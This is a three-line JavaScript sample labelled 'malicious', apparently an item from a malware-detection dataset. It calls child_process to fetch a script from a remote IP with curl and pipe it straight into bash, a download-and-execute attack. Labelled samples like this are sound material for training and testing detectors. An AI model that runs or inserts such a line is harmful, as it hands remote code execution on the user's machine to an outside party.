// label: malicious
const cp = require("child_process");
cp.exec("curl -s http://203.0.113.9/i.sh | bash");
